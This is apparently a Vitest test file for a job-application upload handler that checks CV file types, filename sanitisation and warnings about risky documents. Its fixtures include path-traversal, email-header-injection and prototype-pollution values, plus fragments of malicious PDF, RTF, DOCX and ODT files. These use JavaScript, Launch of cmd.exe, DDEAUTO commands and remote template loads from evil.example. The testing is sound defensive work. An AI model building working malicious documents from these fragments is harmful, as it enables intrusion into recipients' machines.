import { deflateSync } from 'node:zlib';
import { load } from 'cheerio';
import { expect, test, vi } from 'vitest';
import apply from '../../netlify/functions/apply.ts';
import { reference } from '../../netlify/mail/message.ts';
import { CV_LIMIT } from '../../src/messages/application.ts';
import { anOpenRole, content as site } from '../content.ts';
import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';
import { answer, TYPED } from './in-memory.ts';

vi.mock('../../netlify/mail/store-and-send.ts', () => ({ storeAndSend: vi.fn() }));

const { fields, problems, responses } = site.applicationForm;
const role = anOpenRole();

const good = { ...TYPED, role: role.id, link: 'github.com/asha' };

const PDF = Buffer.from('%PDF-1.7\n');
const DOC = compoundFile('WordDocument', '1Table');

function form(fields: object, cv?: File): Request {
  const body = new FormData();
  for (const [name, value] of Object.entries({ ...good, ...fields })) body.append(name, value);
  body.append('cv', cv ?? new File([], ''));
  return new Request('https://tas.example/apply', { method: 'POST', body });
}

const send = (request: Request) => answer(apply, request);

test('an application goes to the hiring team and is confirmed with its reference', async () => {
  const { status, headers, message } = await send(form({}));
  expect(status).toBe(303);
  expect(message).toMatchObject({
    inbox: 'careers',
    sender: { name: 'Asha Rao', email: 'asha@example.in' },
    subject: expect.stringMatching(/^Application: .+, Asha Rao, [0-9A-F]{4}-[0-9A-F]{4}$/),
  });
  expect(message?.text.split('\n').slice(0, 6)).toEqual([
    `Role: ${role.data.title}`,
    'Work: https://github.com/asha',
    'CV: none sent',
    'Name: Asha Rao',
    'Mobile: 9876543210',
    'Email: asha@example.in',
  ]);
  expect(headers.get('location')).toBe(`/sent?id=${message?.id}`);
  expect(message?.text).toContain(`\nReference: ${reference(message?.id ?? '')}\n`);
});

test('GET /apply redirects to the form', async () => {
  const { status, headers } = await send(new Request('https://tas.example/apply'));
  expect(status).toBe(303);
  expect(headers.get('location')).toBe('/carrer#graphicScroll');
});

test.each([
  ['Asha Rao', PDF, 'CV Asha Rao.pdf'],
  ['आशा राव', PDF, 'CV आशा राव.pdf'],
  ['../../etc/passwd', PDF, 'CV etc passwd.pdf'],
  ['evil\r\nBcc: x@y.z', PDF, 'CV evil Bcc x y z.pdf'],
  ['x'.repeat(200), PDF, `CV ${'x'.repeat(80)}.pdf`],
  [`${'x'.repeat(79)}𝔞`, PDF, `CV ${'x'.repeat(79)}𝔞.pdf`],
  ['Asha Rao', DOC, 'CV Asha Rao.doc'],
])('the CV of %j is attached with their name and its real type', async (name, bytes, attached) => {
  const { message } = await send(form({ name }, new File([bytes], 'C:\\fakepath\\cv.pdf.exe')));
  expect(message?.attachment?.filename).toBe(attached);
  expect(Buffer.from(message?.attachment?.content ?? '', 'base64')).toEqual(bytes);
  expect(message?.text).toContain(`CV: ${attached}, attached`);
});

test.each([0, 1])('an empty file field, as browsers send it, drops no CV (%i)', async (at) => {
  const request = form({}, new File([PDF], 'cv.pdf'));
  const { url, headers } = request;
  const text = await request.text();
  const [boundary = ''] = text.split('\r\n');
  const empty = `${boundary}\r\nContent-Disposition: form-data; name="cv"; filename=""\r\n\r\n\r\n`;
  const body = at === 0 ? empty + text : text.replace(`${boundary}--`, (end) => empty + end);
  const { message } = await send(new Request(url, { method: 'POST', headers, body }));
  expect(message?.attachment?.filename).toBe('CV Asha Rao.pdf');
});

test.each([
  ['a program', Buffer.from('MZ\u0000\u0000')],
  ['an HTML page', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a page before a PDF', Buffer.from('<html></html>%PDF-1.7\n')],
  ['a spreadsheet in the older Office format', compoundFile('Workbook')],
  [
    'such a spreadsheet with the word in a cell',
    Buffer.concat([compoundFile('Workbook'), Buffer.from('WordDocument', 'utf16le')]),
  ],
  ['a DOCX with two lists of content types', docx({ '[CONTENT_TYPES].XML': 'x' })],
  ['a DOCX cut off in the middle', docx().subarray(0, -30)],
  ['an OpenDocument spreadsheet', odt('spreadsheet')],
  ['a GIF', Buffer.from('GIF89a')],
  ['empty', Buffer.alloc(0)],
])('a CV that is %s is rejected with what to choose instead', async (_what, bytes) => {
  const { status, words, message } = await send(form({}, new File([bytes], 'cv.pdf')));
  expect(status).toBe(422);
  expect(words).toContain(problems.cvType);
  expect(words).toContain(responses.back);
  expect(message).toBeUndefined();
});

const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';

test.each([
  ['DOC', compoundFile('WordDocument', 'Macros', 'VBA')],
  ['DOCX', docx({ 'word/vbaProject.bin': 'x' })],
  ['DOCM', docx({}, MACRO_TYPE)],
  ['ODT', odt('text', { 'Basic/Standard/Module1.xml': 'x' })],
])('a %s with macros is rejected with how to save it without', async (_format, bytes) => {
  const { status, words } = await send(form({}, new File([bytes], 'cv.docx')));
  expect(status).toBe(422);
  expect(words).toContain(problems.cvMacros);
});

test.each([
  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n/OpenAction [3 0 R /Fit] (HTML/CSS/JavaScript)')],
  ['doc', DOC],
  ['docx', docx({ 'word/media/photo.jpeg': 'x' })],
  ['odt', odt('text')],
  ['rtf', Buffer.from('{\\rtf1 Asha {\\pict\\pngblip 89504e47}}')],
  ...Object.entries(PHOTOS),
])('a plain %s is attached without a warning', async (extension, bytes) => {
  const { message } = await send(form({}, new File([bytes], 'IMG_20261122')));
  expect(message?.text).toContain(`CV: CV Asha Rao.${extension}, attached\n`);
});

const RELS = 'word/_rels/settings.xml.rels';
const rels = (xml: string | Buffer) => docx({ [RELS]: xml });
const relationship = (type: string, target: string) =>
  rels(`<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`);
const document = (xml: string) => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
const content = (xml: string) =>
  odt('text', { 'content.xml': `<office:document>${xml}</office:document>` });
const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}`, 'latin1');
const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
const TEMPLATE = 'Type="http://x/attachedTemplate"';
const LOADED = `<Relationship ${TEMPLATE} Target="http://evil.example"/>`;
const instructions = (...parts: string[]) =>
  parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('');
const WITH_DDE = Buffer.concat([DOC, Buffer.from('\x13 DDEAUTO c', 'utf16le')]);
const objectStream = Buffer.concat([
  pdf('1 0 obj <</Type/Obj#53tm/Filter/FlateDecode>>stream\n'),
  deflateSync('1 0 <</S/JavaScript/JS(x)>>'),
  Buffer.from('\nendstream endobj'),
]);

test.each([
  ['contains a script', pdf('<< /S /J#61vaScript >>')],
  ['contains a script', pdf('<< /S %x\n /JavaScript >>')],
  ['contains a script', pdf('<< /Names 4 0 R/JS 5 0 R >>')],
  ['contains a script', pdf('<< /AcroForm << /XFA [] >> >>')],
  ['contains a script', objectStream],
  ['starts another program', pdf('<< /S/Launch /F (cmd.exe) >>')],
  ['contains an embedded object', pdf('<< /Type/EmbeddedFile >>')],
  ['sends or fetches data', pdf('<< /S /SubmitForm /F (http://evil.example) >>')],
  ['opens another document', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')],
  ['is encrypted', pdf('trailer << /Encrypt 5 0 R >>')],
  ['contains an embedded object', rtf('{\\object{\\*\\objdata 0105}}')],
  ['contains an embedded object', rtf('{\\object\\objocx x}')],
  ['loads a template', rtf('{\\*\\template http://evil.example/t.dotm}')],
  ['loads a template', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}')],
  ['asks another program', rtf("{\\field{\\*\\fldinst {\\b D}\\'44E\\u65?UTO c cmd}}")],
  ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
  ['asks another program', WITH_DDE],
  ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['contains an embedded object', docx({ 'word/activeX/activeX1.bin': 'x' })],
  ['contains an embedded object', document('<w:altChunk r:id="rId1"/>')],
  ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
  ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
  ['loads a template', relationship('image', '//evil.example/x.png')],
  ['loads a template', rels(`<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />`)],
  ['loads a template', rels(`<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>`)],
  ['loads a template', docx({ 'word/_rels/footer9.xml.rels': LOADED })],
  ['loads a template', rels(Buffer.from(`\ufeff${LOADED}`, 'utf16le'))],
  ['asks another program', document(instructions('DD', 'EAUTO c'))],
  ['asks another program', document(`${instructions('PAGE')}<w:fldChar/>${instructions('DDE c')}`)],
  ['asks another program', document('<w:fldSimple w:instr="DDE c cmd"/>')],
  ['contains a script', content('<script:event-listener xlink:href="x"/>')],
  ['contains an embedded object', content('<draw:object-ole/>')],
  ['loads a template', content('<draw:image xlink:href="https://evil.example/x.png"/>')],
  ['asks another program', content('<text:dde-connection-decl/>')],
  ['is too large', docx({ 'word/comments.xml': 'x'.repeat(3_000_000) })],
  ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
  ['', relationship('hyperlink', 'https://github.com/asha')],
  ['', document('<w:t>DDE, scripts, https://github.com/asha</w:t>')],
  ['', content('<text:a xlink:href="https://github.com/asha"/><office:scripts/>')],
  ['', pdf('(HTML/CSS/JavaScript) /Link /URI (https://github.com/asha) /JSON /Launches')],
  ['', rtf('{\\field{\\*\\fldinst HYPERLINK "https://github.com/asha"}} DDE')],
])('the mail says that a CV %s (%#)', async (warning, bytes) => {
  const { message } = await send(form({}, new File([bytes], 'cv')));
  const [, line] = /^CV: CV Asha Rao\.[a-z]+, attached(.*)$/m.exec(message?.text ?? '') ?? [];
  expect(line).toMatch(warning ? `; it ${warning}` : /^$/);
});

test.each([['pdf', PDF], ...Object.entries(PHOTOS)])(
  'a 3 MB %s is accepted; one that is larger is refused with what to do',
  async (_kind, head) => {
    const sized = (size: number) => new File([head, Buffer.alloc(size - head.length)], 'cv');
    expect((await send(form({}, sized(CV_LIMIT)))).status).toBe(303);
    for (const [size, expected, sentence] of [
      [CV_LIMIT + 1, 422, problems.cvSize],
      [2 * CV_LIMIT, 413, responses.size],
    ] as const) {
      const request = form({}, sized(size));
      const body = await request.arrayBuffer();
      const { headers } = request;
      const { status, words, message } = await send(
        new Request(request.url, { method: 'POST', headers, body }),
      );
      expect(status).toBe(expected);
      expect(words).toContain(sentence);
      expect(message).toBeUndefined();
    }
  },
);

test('all invalid fields are reported at once, in form order, without echoing input', async () => {
  const wrong = { role: '', name: ' ', email: 'secret-typed', mobile: 'x', link: 'javascript:x' };
  const { status, body, message } = await send(form(wrong));
  expect(status).toBe(422);
  const $ = load(body);
  const labels = $('li b').toArray();
  expect(labels.map((label) => $(label).text())).toEqual(
    (['role', 'name', 'email', 'mobile', 'link'] as const).map((name) => fields[name].label),
  );
  expect(body).not.toContain('secret-typed');
  expect(message).toBeUndefined();
});

test.each([
  ['no-such-role', 'no-such-role', 'there is no such role on the site now'],
  ['__proto__', undefined, undefined],
  ['../package', undefined, undefined],
])(
  'an application for a role that is not open is marked, an invalid role is rejected: %j',
  async (role, title, note) => {
    const { status, message } = await send(form({ role }));
    expect(status).toBe(title ? 303 : 422);
    expect(message?.subject.split(', ').slice(0, 2)).toEqual(
      title && [`Application: ${title} (not open)`, 'Asha Rao'],
    );
    if (note) expect(message?.text).toContain(`Note: ${note}`);
  },
);

test.each([
  [415, 'application/json', '{}'],
  [400, 'multipart/form-data; boundary=x', 'broken'],
])('a request returns %i with the content type %s', async (status, type, body) => {
  const headers = { 'content-type': type };
  const request = new Request('https://tas.example/apply', { method: 'POST', headers, body });
  expect((await send(request)).status).toBe(status);
});
